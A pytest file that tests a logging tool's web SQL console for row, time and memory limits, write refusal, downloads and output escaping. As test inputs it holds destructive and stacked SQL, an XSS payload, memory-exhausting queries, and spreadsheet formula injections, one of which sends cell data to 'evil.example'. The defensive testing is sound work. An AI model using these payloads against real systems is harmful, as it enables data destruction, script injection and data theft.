"""The SQL console over real HTTP on each store: results as a table, NULL and JSON shown as
text, the row limit, the time limit, writes refused with the store unchanged, downloads that
parse to the query's result, the README's first queries, and logged text that stays text."""

from __future__ import annotations

import csv
import io
import json
import re
import subprocess
import sys
import uuid
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest

from llmlog.analysis.dashboard import FIRST_QUERIES
from llmlog.store import open_store
from tests.backends import Backend
from tests.webui import HOSTILE, Running, assert_inert, make_call

COUNT_TO = "WITH RECURSIVE n(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM n WHERE x < {}) SELECT x FROM n"


class _Table(HTMLParser):
    """The result table as a browser sees it: header cells, then rows of (class, text)."""

    def __init__(self) -> None:
        super().__init__()
        self.head: list[str] = []
        self.rows: list[list[tuple[str, str]]] = []
        self._in: str | None = None
        self._cell: list[str] = []
        self._class = ""
        self._table = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag == "table" and "results" in (dict(attrs).get("class") or ""):
            self._table = True
        if not self._table:
            return
        if tag == "tr" and self._in is None:
            self.rows.append([])
        if tag in ("td", "th"):
            self._in, self._cell, self._class = tag, [], dict(attrs).get("class") or ""

    def handle_endtag(self, tag: str) -> None:
        if tag == "table":
            self._table = False
        if tag in ("td", "th") and self._in == tag:
            text = "".join(self._cell)
            if tag == "th":
                self.head.append(text)
            else:
                self.rows[-1].append((self._class, text))
            self._in = None

    def handle_data(self, data: str) -> None:
        if self._in:
            self._cell.append(data)


def table(html: str) -> _Table:
    t = _Table()
    t.feed(html)
    t.rows = [r for r in t.rows if r]
    return t


def fingerprint(backend: Backend) -> list[tuple[Any, ...]]:
    """What a write would change: the calls, their cost, the rollup, the content."""
    return backend.sql(
        "SELECT (SELECT COUNT(*) FROM call_data), (SELECT SUM(cost_usd) FROM call_data),"
        " (SELECT SUM(calls) FROM daily), (SELECT COUNT(*) FROM content)"
    )


def test_a_query_shows_columns_rows_null_and_json_as_text(ui: Running) -> None:
    ok, failed = uuid.UUID(int=9), uuid.UUID(int=10)
    sql = f"SELECT id, model, cost_usd, error, tags FROM calls WHERE id IN ('{ok}', '{failed}') ORDER BY id"
    ui.store.update_costs([(str(failed), None, None)])
    r = ui.get("/sql", params={"q": sql})
    assert r.status_code == 200
    t = table(r.text)
    assert t.head == ["id", "model", "cost_usd", "error", "tags"]
    assert len(t.rows) == 2
    first, second = t.rows
    assert first[0][1] == str(ok) and first[1][1] == "claude-sonnet-4-6"
    assert first[2][1] == "0.0012" and first[3] == ("null", "NULL")
    # Call 9 failed: its error is JSON, shown as the store gives it, as text.
    assert json.loads(second[3][1])["type"] == "overloaded_error"
    assert second[2] == ("null", "NULL")  # a NULL cost, not an empty string
    assert re.search(r"2 rows · [0-9.]+ ms", r.text)
    assert f'href="/calls/{ok}"' in r.text  # an id column links to the call
    assert "truncated" not in r.text
    # The query stays in the form and in the links, so the page is its own permalink.
    assert ">SELECT id, model" in r.text and 'href="/sql.csv?q=SELECT+id' in r.text


def test_rows_beyond_the_limit_are_cut_and_said_so(ui: Running) -> None:
    sql = COUNT_TO.format(1500)
    r = ui.get("/sql", params={"q": sql})
    assert r.status_code == 200
    assert [int(row[0][1]) for row in table(r.text).rows] == list(range(1, 1001))
    assert "truncated at 1,000 rows" in r.text
    # The download goes further.
    rows = list(csv.reader(io.StringIO(ui.get("/sql.csv", params={"q": sql}).text)))
    assert rows[0] == ["x"] and [int(x) for (x,) in rows[1:]] == list(range(1, 1501))


@pytest.mark.parametrize(
    "sql",
    [
        "INSERT INTO call_data (id, timestamp) VALUES ('x', '2026-03-01T00:00:00.000000Z')",
        "DELETE FROM call_data",
        "UPDATE call_data SET cost_usd = 0",
        "DROP TABLE content",
        "DELETE FROM daily",
        "CREATE TABLE x (a int)",
        "ATTACH DATABASE '/tmp/llmlog-attached.db' AS x",
        "PRAGMA journal_mode=DELETE",
        "PRAGMA user_version = 99",
        "WITH gone AS (DELETE FROM call_data RETURNING id) SELECT COUNT(*) FROM gone",
        "SELECT 1; DELETE FROM call_data",
    ],
)
def test_writes_are_refused_and_the_store_is_unchanged(ui: Running, backend: Backend, sql: str) -> None:
    before = fingerprint(backend)
    assert before[0][0] == 150
    r = ui.get("/sql", params={"q": sql})
    assert r.status_code == 400
    message = re.search(r'<p class="error" role="alert">([^<]+)</p>', r.text)
    assert message and message.group(1).strip(), r.text
    for download in ("/sql.csv", "/sql.json"):
        d = ui.get(download, params={"q": sql})
        assert d.status_code == 400 and d.json()["error"]
    assert fingerprint(backend) == before
    if backend.kind == "sqlite":
        assert backend.sql("PRAGMA journal_mode") == [("wal",)]
        assert backend.sql("PRAGMA user_version")[0][0] < 99


def test_writes_are_refused_in_so_many_words(ui: Running) -> None:
    r = ui.get("/sql", params={"q": "DELETE FROM call_data"})
    assert r.status_code == 400 and "only reading queries are allowed" in r.text


def test_a_query_over_the_time_limit_is_stopped_and_reported(ui: Running) -> None:
    forever = "WITH RECURSIVE n(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM n) SELECT COUNT(*) FROM n"
    r = ui.get("/sql", params={"q": forever})
    assert r.status_code == 400
    assert "longer than the 5 s limit" in r.text
    # The server is free again at once.
    assert ui.get("/sql", params={"q": "SELECT 1 AS one"}).status_code == 200


def test_sql_errors_are_the_callers_not_the_servers(ui: Running) -> None:
    r = ui.get("/sql", params={"q": "SELECT nope FROM calls"})
    assert r.status_code == 400
    assert re.search(r"no such column: nope|column &#34;nope&#34; does not exist", r.text), r.text
    assert ui.get("/sql.json", params={"q": "SELECT FROM WHERE"}).status_code == 400
    assert ui.get("/sql.csv").status_code == 400  # no query at all


def test_downloads_parse_to_the_query_result(ui: Running) -> None:
    sql = "SELECT id, model, input_tokens, cost_usd, error, timestamp FROM calls ORDER BY id"
    expected = ui.store.query(sql)
    assert len(expected.rows) == 150
    r = ui.get("/sql.csv", params={"q": sql})
    assert r.status_code == 200
    assert r.headers["content-disposition"] == 'attachment; filename="llmlog-query.csv"'
    assert r.headers["content-type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(r.text)))
    assert rows[0] == expected.columns
    assert rows[1:] == [["" if v is None else str(v) for v in row] for row in expected.rows]
    j = ui.get("/sql.json", params={"q": sql})
    assert j.status_code == 200
    assert j.headers["content-disposition"] == 'attachment; filename="llmlog-query.json"'
    assert j.json() == [dict(zip(expected.columns, row, strict=True)) for row in expected.rows]
    errors = [row for row in j.json() if row["error"] is not None]
    assert len(errors) == 15 and json.loads(errors[0]["error"])["status"] == 529


def test_the_first_queries_are_offered_and_run(ui: Running) -> None:
    page = ui.get("/sql")
    assert page.status_code == 200 and "<textarea" in page.text
    links = [a.replace("&amp;", "&") for a in re.findall(r'<a href="(/sql\?q=[^"]+)"><code>', page.text)]
    offered = [json.loads(ui.get(link.replace("/sql?", "/sql.json?")).text) for link in links[:3]]
    assert len(links) >= 3
    for sql in FIRST_QUERIES:
        assert ui.get("/sql", params={"q": sql}).status_code == 200, sql
    errors, by_model, by_version = offered
    # Every error, newest first (the fixture's calls 9, 19, … 149 failed).
    assert [row["id"] for row in errors] == [str(uuid.UUID(int=i + 1)) for i in range(149, 0, -10)]
    counts = {row["model"]: list(row.values())[1:] for row in by_model}
    assert counts.keys() == {"claude-sonnet-4-6", "claude-haiku-4-5"}
    assert counts["claude-haiku-4-5"][0] == 50 and counts["claude-sonnet-4-6"][0] == 100
    assert counts["claude-haiku-4-5"][1] == pytest.approx(50 * 0.0012)
    assert [list(row.values()) for row in by_version] == [["v1", 20.0]]


def test_logged_text_and_the_query_itself_stay_text(ui: Running) -> None:
    ui.store.insert([make_call(500, model=HOSTILE, feature=HOSTILE, metadata={"note": HOSTILE})])
    sql = "SELECT model, feature, metadata FROM calls WHERE model LIKE '<script>%'"
    r = ui.get("/sql", params={"q": sql})
    assert r.status_code == 200
    assert_inert(r.text, "result")
    t = table(r.text)
    assert t.rows[0][0][1] == HOSTILE and json.loads(t.rows[0][2][1]) == {"note": HOSTILE}
    # Markup in the query, its column names and its error message is text too.
    sneaky = f"SELECT '{HOSTILE}' AS \"<img src=x onerror=alert(2)>\""
    r = ui.get("/sql", params={"q": sneaky})
    assert r.status_code == 200
    assert_inert(r.text, "column name")
    assert table(r.text).head == ["<img src=x onerror=alert(2)>"]
    r = ui.get("/sql", params={"q": f'SELECT * FROM "{HOSTILE}"'})
    assert r.status_code == 400
    assert_inert(r.text, "error")


# A value built past what a query may hold, and many large values: each stops short.
HUGE = {
    "sqlite": [
        "SELECT length(hex(zeroblob(100000000)))",  # a 200 MB string
        "WITH RECURSIVE r(s, n) AS (SELECT 'x', 0 UNION ALL SELECT s || s, n + 1 FROM r WHERE n < 28)"
        " SELECT n, length(s) FROM r",  # doubled to 256 MB
        "WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < 30)"
        " SELECT length(group_concat(printf('%.*c', 10000000, 'x'))) FROM r",  # 300 MB in one value
    ],
    "postgres": ["SELECT repeat('x', 10000000) FROM generate_series(1, 10000)"],  # 100 GB of rows
}


def test_a_query_past_the_memory_bound_stops_and_the_server_stays_up(ui: Running, backend: Backend) -> None:
    for sql in HUGE[backend.kind]:
        r = ui.get("/sql", params={"q": sql})
        if r.status_code == 400:
            assert "64 MB a query may hold" in r.text, r.text
        else:  # the rows that fit, and why the rest are not there
            assert r.status_code == 200 and "truncated: the result passed 64 MB after" in r.text
            assert len(table(r.text).rows) < 10
        d = ui.get("/sql.json", params={"q": sql})
        assert d.status_code == 400 or "64 MB" in d.headers["X-Llmlog-Truncated"]
    assert ui.get("/sql", params={"q": "SELECT 1"}).status_code == 200


def test_a_query_of_many_large_values_holds_at_most_the_bound(tmp_path: Path) -> None:
    """40 rows of 30 MB each: the store stops taking rows at the bound, so the process (a fresh
    one, measured whole) stays within a few hundred MB rather than hold 1.2 GB."""
    db = tmp_path / "calls.db"
    open_store(str(db)).close()
    script = (
        "import json, re, sys\n"
        "from llmlog.store import open_store\n"
        "store = open_store(sys.argv[1])\n"
        "sql = ('WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < 40)'\n"
        "       \" SELECT printf('%.*c', 30000000, 'x') FROM r\")\n"
        "result = store.query(sql, timeout_s=30)\n"
        # VmHWM, not ru_maxrss: Linux carries the peak of the process that started this one
        # (forked from the test run, which may be large) across exec into ru_maxrss.
        "peak = int(re.search(r'VmHWM:\\s+(\\d+)', open('/proc/self/status').read())[1]) // 1024\n"
        "print(json.dumps([len(result.rows), result.truncated, getattr(result, 'note', None), peak]))\n"
    )
    out = subprocess.run(
        [sys.executable, "-c", script, str(db)], capture_output=True, text=True, timeout=120, check=True
    )
    rows, truncated, note, peak_mb = json.loads(out.stdout)
    assert truncated and rows == 2 and "64 MB" in note
    assert peak_mb < 400, f"peak RSS {peak_mb} MB"


# What a spreadsheet would run as a formula, as logged text may well start (OWASP's list).
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+1+1", "-1+1", "@SUM(A1:A9)", "\t=1", "\r=1"]


def test_csv_downloads_open_as_text_in_a_spreadsheet(ui: Running) -> None:
    ui.store.insert([make_call(1000 + i, feature=f) for i, f in enumerate(FORMULAS)])
    sql = (
        'SELECT feature, input_tokens - 2000 AS "=n", model FROM calls'
        " WHERE input_tokens >= 1100 ORDER BY input_tokens"
    )
    rows = list(csv.reader(io.StringIO(ui.get("/sql.csv", params={"q": sql}).text, newline="")))
    assert rows[0] == ["feature", "'=n", "model"]
    assert [r[0] for r in rows[1:]] == ["'" + f for f in FORMULAS]
    assert [r[1] for r in rows[1:]] == [str(1100 + i - 2000) for i in range(6)]  # numbers stay numbers
    assert all(not r[2].startswith("'") for r in rows[1:])
    # The JSON download is data, not a sheet: as stored.
    assert [r["feature"] for r in ui.get("/sql.json", params={"q": sql}).json()] == FORMULAS
